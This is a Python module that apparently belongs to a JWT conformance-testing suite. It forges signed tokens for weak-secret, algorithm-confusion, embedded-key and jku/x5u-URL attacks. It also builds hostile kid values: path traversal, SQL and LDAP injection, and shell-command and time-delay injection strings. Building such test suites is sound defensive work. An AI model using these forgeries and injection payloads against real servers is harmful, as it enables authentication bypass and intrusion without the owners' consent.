"""Correctly signed tokens whose key is not the server's to trust: made up, public, or brought along."""

from __future__ import annotations

import hashlib
import hmac
from typing import TYPE_CHECKING, Any, Final

from conformance.tokens import keys
from conformance.tokens.forging.table import Choice, Material, Needs, Row
from conformance.tokens.public_keys import encodings
from conformance.tokens.reading import HMAC_ALGORITHMS, b64url_encode

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

HMAC_KEY_OF_ZEROS: Final = bytes(32)
"""HMAC pads a key with zero bytes, so this is the empty key as well (RFC 2104 §2)."""

UNSET: Final = ("null", "undefined", "None", "nil", "secret")
"""What an unset configuration variable becomes when it is made a string, and what stands in for one."""

FAMILIES: Final = {"RS256": "RS", "ES256": "ES", "EdDSA": "Ed"}
HMAC_FACTOR: Final = ("HS256", "HS384", "HS512")


def foreign_key(material: Material) -> Iterator[Row]:
    """SIG-03: signed with a key that the server does not own."""
    algorithm, claims = material.token.algorithm, material.token.claims

    def row(name: str, key: Any, alg: str = algorithm, content: dict[str, Any] = claims) -> Row:
        return Row(name, lambda choice: keys.sign(material.header(choice, alg=alg), content, key, alg))

    symmetric = algorithm if algorithm in HMAC_ALGORITHMS else "HS256"
    if algorithm in HMAC_ALGORITHMS:
        yield row("a random secret", keys.own_secret())
    elif keys.can_sign(algorithm):
        yield row("a new key pair", keys.own_key(algorithm))
    words = {"an empty secret": HMAC_KEY_OF_ZEROS, **{f"the secret {word!r}": word.encode() for word in UNSET}}
    for name, secret in words.items():
        # Of a target that really signs with one of these SIG-04 tells.
        if not _is_the_target_s(material, secret):
            yield row(name if symmetric == algorithm else f"HS256 with {name}", secret, symmetric)
    if keys.can_sign(algorithm):
        yield row("a key of the suite's own, another subject", keys.foreign_key_for(algorithm), algorithm,
                  material.as_victim)  # fmt: skip


def _is_the_target_s(material: Material, secret: bytes) -> bool:
    token = material.token
    if token.algorithm not in HMAC_ALGORITHMS:
        return False
    digest = getattr(hashlib, f"sha{token.algorithm[2:]}")
    return hmac.digest(secret, ".".join(token.segments[:2]).encode(), digest) == material.signature


def confused(material: Material) -> Iterator[Row]:
    """SIG-05: the server's public key, in each encoding, as an HMAC secret."""
    for name, secret in encodings(material.published, material.pem_files, material.served):
        yield Row(f"keyed with the {name}", _confused(material, secret), Needs.PUBLIC_KEY)


def _confused(material: Material, secret: bytes) -> Callable[[Choice], str]:
    def forge(choice: Choice) -> str:
        algorithm = choice["hash"]
        return keys.sign(material.header(choice, alg=algorithm), material.token.claims, secret, algorithm)

    return forge


def embedded(material: Material) -> Iterator[Row]:
    """SIG-06: a key or certificate of the forger's own inside the token's header."""
    for algorithm, family in FAMILIES.items():
        own = keys.own_key(family)
        jwk, certificate = keys.own_public_jwk(family), keys.own_certificate(family)
        yield Row(f"an {algorithm} jwk", _carrying(material, algorithm, own, {"jwk": jwk}))
        yield Row(f"an {algorithm} certificate as x5c", _carrying(material, algorithm, own, {"x5c": [certificate]}))
    secret = keys.own_secret()
    jwk = {"kty": "oct", "k": b64url_encode(secret)}
    yield Row("a symmetric jwk", _carrying(material, "HS256", secret, {"jwk": jwk}))


def _carrying(material: Material, algorithm: str, key: Any, members: dict[str, Any]) -> Callable[[Choice], str]:
    def forge(choice: Choice) -> str:
        kid = material.kid(choice)
        named = {name: {**value, **kid} if name == "jwk" else value for name, value in members.items()}
        return keys.sign(material.header(choice, alg=algorithm, **named), material.token.claims, key, algorithm)

    return forge


def key_urls(material: Material) -> Iterator[Row]:
    """SIG-07: a URL in the token from which the key could be fetched, all at the canary and nowhere else."""
    if not material.canary:
        return
    scheme, _, place = material.canary.partition("://")
    own = material.origin.partition("://")[2]
    key_set, certificate = f"{material.canary}/jwks.json", f"{material.canary}/certificate.pem"
    rows: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
        "a jku": ({"jku": key_set}, {}),
        "a jku that begins like the target's own URL": ({"jku": f"{scheme}://{own}@{place}/jwks.json"}, {}),
        "a jku that ends like the target's own URL": ({"jku": f"{key_set}#{material.origin}/jwks.json"}, {}),
        "a jku over TLS": ({"jku": f"https://{place}/jwks.json"}, {}),
        "an x5u": ({"x5u": certificate}, {}),
        "a kid that is a URL": ({"kid": key_set}, {}),
        "an issuer whose key set is the forger's": ({}, {"iss": material.canary}),
    }
    for name, (members, claims) in rows.items():
        yield Row(name, _fetched(material, members, claims), Needs.CANARY)


def _fetched(material: Material, members: dict[str, Any], claims: dict[str, Any]) -> Callable[[Choice], str]:
    def forge(choice: Choice) -> str:
        algorithm = choice["algorithm"]
        # The canary names its keys by their algorithm; a URL in `kid` names the whole set.
        header = {"typ": "JWT", "kid": algorithm, **members, "alg": algorithm}
        return keys.sign(header, {**material.token.claims, **claims}, keys.own_key(FAMILIES[algorithm]), algorithm)

    return forge


def hostile_kid(material: Material) -> Iterator[Row]:
    """SIG-08: a `kid` that a careless look-up would open, run or choke on."""
    algorithm = material.token.algorithm
    symmetric = algorithm if algorithm in HMAC_ALGORITHMS else "HS256"
    usual = material.token.header.get("kid", "k")

    def keyed(kid: Any, secret: bytes) -> Callable[[Choice], str]:
        header = {**material.token.header, "alg": symmetric, "kid": kid}
        return lambda _choice: keys.sign(header, material.token.claims, secret, symmetric)

    # With an empty secret under an ordinary name it is SIG-03's finding.
    empty = keyed(usual, b"")({})
    for path in ("../../../../../../../../dev/null", "/dev/null", "file:///dev/null"):
        yield Row(f"kid {path}, signed with an empty secret", keyed(path, b""), control=empty)
    for content in (b"2\n", b"2"):
        path = "../../../../../../../../proc/sys/kernel/randomize_va_space"
        yield Row(f"kid {path}, signed with {content!r}", keyed(path, content))
    for query in ("x' UNION SELECT 'conformance' -- ", 'x" UNION SELECT "conformance" -- ',
                  "0 UNION SELECT 'conformance'"):  # fmt: skip
        yield Row(f"kid {query}, signed with what it selects", keyed(query, b"conformance"))
    own = keys.own_secret()
    for text in ("*)(uid=*))(|(uid=*", f"{usual}\0.pem", "'", "k" * 4000):
        shown = text if len(text) < 100 else "of 4,000 characters"  # noqa: PLR2004 - what fits a line
        yield Row(f"kid {shown!r}", keyed(text, own))
    for value in (0, True, None, [usual], {"$ne": ""}, ""):
        yield Row(f"kid {value!r} of another type or empty", keyed(value, own))


DELAYS: Final = {
    "a shell command": "x; sleep {s}",
    "a substituted command": "$(sleep {s})",
    "PostgreSQL": "x'; SELECT pg_sleep({s}) -- ",
    "MySQL": "x' OR SLEEP({s}) -- ",
}
"""A `kid` for each way to make a careless look-up wait, with the seconds left open."""


def delaying(material: Material, kid: str) -> str:
    """A token with this `kid`, signed with a secret of the suite's own."""
    return keys.sign({**material.token.header, "alg": "HS256", "kid": kid}, material.token.claims, keys.own_secret(),
                     "HS256")  # fmt: skip
